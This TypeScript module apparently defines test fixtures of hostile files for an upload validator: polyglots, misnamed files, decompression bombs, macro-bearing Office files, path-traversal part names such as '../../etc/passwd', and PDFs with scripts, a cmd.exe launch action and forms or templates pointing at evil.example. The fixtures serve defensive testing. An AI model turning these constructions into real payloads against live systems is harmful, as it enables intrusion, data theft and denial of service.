import { makeJpeg, makeOffice, makePdf, makePng, makeStream, makeWebp, makeZip } from './corpus'
import { IMAGES, OTHERS } from './hostile-other'
import { type Hostile, hex, html, join, MB } from './hostile-parts'
import { emptyZip64, overlappingZip, sized32 } from './hostile-zip'

const zip = makeZip([{ name: 'a.txt', data: 'x' }])
const tar = () => {
  const head = Buffer.alloc(1024)
  head.write('a.txt')
  head.write('ustar\x0000', 257)
  return head
}
const part = (name: string, data: Buffer | string = 'x') => makeOffice('docx', [{ name, data }])
const rels = (type: string, target: string) =>
  part(
    'word/_rels/document.xml.rels',
    `<Relationships><Relationship Id="r" Type="x/${type}" Target="${target}" TargetMode="External"/></Relationships>`,
  )
const action = (body: string) => makePdf({ catalog: '/OpenAction 4 0 R', objects: [`<< ${body} >>`] })
const packed = (text: string, dictionary = '/Type /ObjStm /N 1 /First 4') =>
  makePdf({ objects: [makeStream(dictionary, `9 0 ${text}`)] })

/** Two formats in one file, and one format in front of or behind another. */
const POLYGLOTS: readonly Hostile[] = [
  ['PDF with an archive behind', 'a.pdf', () => join(makePdf(), zip)],
  ['PDF with an archive before its end', 'a.pdf', () => join(makePdf(), zip, '\n%%EOF\n')],
  ['PDF that is a web page too', 'a.pdf', () => makePdf({ head: `%${html}\n` })],
  ['PDF that is PHP too', 'a.pdf', () => makePdf({ head: '%<?php evil(); ?>\n' })],
  ['PDF that is XML too', 'a.pdf', () => makePdf({ head: '%<?xml version="1.0"?><svg/>\n' })],
  ['bytes before the PDF', 'a.pdf', () => join('xx', makePdf())],
  ['a line before the PDF', 'a.pdf', () => join('\n', makePdf())],
  ['a byte order mark before the PDF', 'a.pdf', () => join('\ufeff', makePdf())],
  ['a web page before the PDF', 'a.pdf', () => join(html, makePdf())],
  ['a program before the PDF', 'a.pdf', () => join('MZ', Buffer.alloc(64), makePdf())],
  ['GIF that is a script too', 'a.gif', () => 'GIF89a=1;/*\0\0*/alert(1)'],
  ['GIF that is a script, called JPEG', 'a.jpg', () => 'GIF89a=1;/*\0\0*/alert(1)'],
  ['PNG with a PDF behind', 'a.png', () => join(makePng(), makePdf())],
  ['PNG with an archive behind', 'a.png', () => join(makePng(), zip)],
  ['PNG with a web page behind', 'a.png', () => join(makePng(), html)],
  ['PNG header before a PDF', 'a.pdf', () => join(makePng().subarray(0, 8), makePdf())],
  ['JPEG with an archive behind', 'a.jpg', () => join(makeJpeg(), zip)],
  ['JPEG with a web page behind', 'a.jpg', () => join(makeJpeg(), html)],
  ['JPEG with PHP behind', 'a.jpg', () => join(makeJpeg(), '<?php __HALT_COMPILER(); ?>')],
  ['WebP with an archive behind', 'a.webp', () => join(makeWebp(), zip)],
  ['archive with a tape behind', 'a.docx', () => join(makeOffice('docx'), tar())],
  ['tape with an archive behind', 'a.docx', () => join(tar(), makeOffice('docx'))],
  ['archive that unpacks itself', 'a.docx', () => join('MZ', Buffer.alloc(510), makeOffice('docx'))],
  ['shell script before a DOCX', 'a.docx', () => join('#!/bin/sh\nid\n', makeOffice('docx'))],
]

const NAMES: readonly Hostile[] = [
  ['PNG called PDF', 'a.pdf', () => makePng()],
  ['PDF called DOCX', 'a.docx', () => makePdf()],
  ['PDF called EXE', 'a.exe', () => makePdf()],
  ['PDF called PDF and EXE', 'a.pdf.exe', () => makePdf()],
  ['PDF without an extension', 'pdf', () => makePdf()],
  ['DOCX called XLSX', 'a.xlsx', () => makeOffice('docx')],
  ['XLSX called DOCX', 'a.docx', () => makeOffice('xlsx')],
  ['DOCX called DOCM', 'a.docm', () => makeOffice('docx')],
  ['PNG called JPEG', 'a.jpg', () => makePng()],
  ['JPEG called PNG', 'a.png', () => makeJpeg()],
]

/** Files that are small until they are opened. */
export const BOMBS: readonly Hostile[] = [
  ['64 MB of nothing in a DOCX', 'a.docx', () => part('word/a.xml', Buffer.alloc(64 * MB))],
  [
    '64 MB of nothing in an XLSX',
    'a.xlsx',
    () => makeOffice('xlsx', [{ name: 'xl/a.xml', data: Buffer.alloc(64 * MB) }]),
  ],
  [
    'a bomb that claims ten bytes',
    'a.docx',
    () => makeOffice('docx', [{ name: 'word/a.xml', data: Buffer.alloc(64 * MB), claimedSize: 10 }]),
  ],
  [
    'a part that claims four gigabytes',
    'a.docx',
    () => makeOffice('docx', [{ name: 'word/a.xml', data: 'x', claimedSize: 0xfffffffe }]),
  ],
  [
    'many middling parts',
    'a.docx',
    () => {
      const data = Buffer.alloc(40 * MB)
      return makeOffice(
        'docx',
        Array.from({ length: 12 }, (_, n) => ({ name: `word/${n}.xml`, data })),
      )
    },
  ],
  [
    'six thousand parts',
    'a.docx',
    () =>
      makeOffice(
        'docx',
        Array.from({ length: 6_000 }, (_, n) => ({ name: `word/${n}.xml`, data: '' })),
      ),
  ],
  ['a million claimed parts', 'a.docx', () => emptyZip64(1_000_000)],
  ['parts that share their bytes', 'a.docx', () => overlappingZip()],
  [
    'an archive in the DOCX',
    'a.docx',
    () =>
      part(
        'word/embeddings/a.zip',
        makeZip([{ name: 'b.zip', data: makeZip([{ name: 'c', data: Buffer.alloc(8 * MB) }]) }]),
      ),
  ],
  ['relations of five megabytes', 'a.docx', () => part('word/_rels/a.rels', Buffer.alloc(5 * MB, ' '))],
  ['a bare bomb', 'a.zip', () => makeZip([{ name: 'a', data: Buffer.alloc(64 * MB) }])],
  ['an object stream of 40 MB', 'a.pdf', () => packed('x'.repeat(40 * MB))],
  [
    'object streams of 160 MB together',
    'a.pdf',
    () => {
      const one = makeStream('/Type /ObjStm /N 1 /First 4', '9 0 '.padEnd(30 * MB))
      return makePdf({ objects: Array.from({ length: 6 }, () => one) })
    },
  ],
]

const OFFICE: readonly Hostile[] = [
  ['macros', 'a.docx', () => part('word/vbaProject.bin')],
  ['macro data', 'a.docx', () => part('word/vbaData.xml')],
  [
    'a macro type',
    'a.docx',
    () =>
      makeZip([
        {
          name: '[Content_Types].xml',
          data: '<Types ContentType="application/vnd.ms-word.document.macroEnabled.main+xml"/>',
        },
        { name: 'word/document.xml', data: 'x' },
      ]),
  ],
  ['a control', 'a.docx', () => part('word/activeX/activeX1.bin')],
  ['a macro sheet', 'a.xlsx', () => makeOffice('xlsx', [{ name: 'xl/macrosheets/sheet1.xml', data: 'x' }])],
  ['an embedded object', 'a.docx', () => part('word/embeddings/oleObject1.bin')],
  ['a program inside', 'a.docx', () => part('word/media/a.exe')],
  ['a script inside', 'a.docx', () => part('word/media/a.js')],
  ['a web page inside', 'a.docx', () => part('word/media/a.html')],
  ['a drawing with scripts inside', 'a.docx', () => part('word/media/a.svg')],
  ['a shortcut inside', 'a.docx', () => part('word/media/a.lnk')],
  ['a template from outside', 'a.docx', () => rels('attachedTemplate', 'https://evil.example/a.dotm')],
  ['an image from outside', 'a.docx', () => rels('image', 'https://evil.example/a.png')],
  ['an object from a share', 'a.docx', () => rels('oleObject', 'file://evil/share')],
  ['a password', 'a.docx', () => makeOffice('docx', [{ name: 'word/a.xml', data: 'x', flags: 1 }])],
  ['a part outside the folder', 'a.docx', () => part('../../etc/passwd')],
  ['a part with an absolute path', 'a.docx', () => part('/etc/passwd')],
  ['a part with a drive', 'a.docx', () => part('C:\\a.txt')],
  ['the same part twice', 'a.docx', () => makeOffice('docx', [{ name: 'WORD/document.xml', data: 'x' }])],
  ['no list of types', 'a.docx', () => makeZip([{ name: 'word/document.xml', data: 'x' }])],
  ['neither text nor table', 'a.docx', () => makeZip([{ name: '[Content_Types].xml', data: '<Types/>' }])],
  ['text and table at once', 'a.docx', () => makeOffice('docx', [{ name: 'xl/workbook.xml', data: 'x' }])],
  ['cut off', 'a.docx', () => makeOffice('docx').subarray(0, 300)],
  ['without its directory', 'a.docx', () => makeOffice('docx').subarray(0, -60)],
  ['compressed sizes over 2³¹', 'a.docx', () => sized32(0x80000001)],
  ['a plain archive', 'a.zip', () => zip],
  ['an old or encrypted document', 'a.docx', () => hex('d0cf11e0a1b11ae1')],
  ['an old document by its name', 'a.doc', () => hex('d0cf11e0a1b11ae1')],
]

const PDFS: readonly Hostile[] = [
  ['a script', 'a.pdf', () => makePdf({ objects: ['<< /S /JavaScript /JS (app.alert(1)) >>'] })],
  ['a script without its kind', 'a.pdf', () => makePdf({ objects: ['<< /JS (app.alert(1)) >>'] })],
  ['a script under another spelling', 'a.pdf', () => makePdf({ objects: ['<< /S /J#61vaScript >>'] })],
  [
    'an address on opening',
    'a.pdf',
    () => makePdf({ catalog: '/OpenAction << /S /URI /URI (https://evil.example) >>' }),
  ],
  ['an action on opening elsewhere', 'a.pdf', () => action('/S /Named /N /Print')],
  ['a program to launch', 'a.pdf', () => action('/S /Launch /F (cmd.exe)')],
  ['a file attached', 'a.pdf', () => makePdf({ objects: [makeStream('/Type /EmbeddedFile', 'x')] })],
  ['files named as attached', 'a.pdf', () => makePdf({ catalog: '/Names << /EmbeddedFiles 4 0 R >>' })],
  [
    'a file in a specification',
    'a.pdf',
    () => makePdf({ objects: ['<< /Type /Filespec /EF << /F 5 0 R >> >>'] }),
  ],
  ['a form of XFA', 'a.pdf', () => makePdf({ catalog: '/AcroForm << /XFA 4 0 R >>' })],
  ['a form of XFA in parts', 'a.pdf', () => makePdf({ catalog: '/AcroForm << /XFA [(a) 4 0 R] >>' })],
  ['further actions', 'a.pdf', () => makePdf({ catalog: '/AA << /WC 4 0 R >>' })],
  ['rich media', 'a.pdf', () => makePdf({ objects: ['<< /Subtype /RichMedia >>'] })],
  ['a rendition', 'a.pdf', () => makePdf({ objects: ['<< /S /Rendition >>'] })],
  [
    'a form that sends',
    'a.pdf',
    () => makePdf({ objects: ['<< /S /SubmitForm /F (https://evil.example) >>'] }),
  ],
  ['a form that fetches', 'a.pdf', () => makePdf({ objects: ['<< /S /ImportData >>'] })],
  ['a way into an attachment', 'a.pdf', () => makePdf({ objects: ['<< /S /GoToE >>'] })],
  ['a script in a packed object', 'a.pdf', () => packed('<< /S /JavaScript /JS (x) >>')],
  ['a packed action', 'a.pdf', () => packed('<< /AA << /O 3 0 R >> >>')],
  [
    'packed by an unknown filter',
    'a.pdf',
    () => packed('<< >>', '/Type /ObjStm /N 1 /First 4 /Filter /Crypt'),
  ],
  [
    'packed with a predictor',
    'a.pdf',
    () => packed('<< >>', '/Type /ObjStm /N 1 /First 4 /DecodeParms << /Predictor 12 >>'),
  ],
  ['encrypted', 'a.pdf', () => makePdf({ trailer: '/Encrypt 9 0 R' })],
  ['encrypted in place', 'a.pdf', () => makePdf({ trailer: '/Encrypt << /V 5 >>' })],
  ['no page', 'a.pdf', () => makePdf({ pages: 0 })],
  ['six thousand pages', 'a.pdf', () => makePdf({ pages: 6000 })],
  ['no end', 'a.pdf', () => makePdf().subarray(0, -8)],
  ['only a header', 'a.pdf', () => '%PDF-1.7\n'],
  ['a header and an end', 'a.pdf', () => '%PDF-1.7\n%%EOF\n'],
  ['a version nobody knows', 'a.pdf', () => '%PDF-9.x\n%%EOF\n'],
  ['noise after the header', 'a.pdf', () => join('%PDF-1.7\n', Buffer.alloc(2 * MB, 'noise '))],
  ['cut off in the middle', 'a.pdf', () => makePdf({ pages: 40 }).subarray(0, 900)],
]

/** Further files that must not get in, each for one reason of its own. */
export const HOSTILE: readonly Hostile[] = [...POLYGLOTS, ...NAMES, ...OFFICE, ...PDFS, ...IMAGES, ...OTHERS]
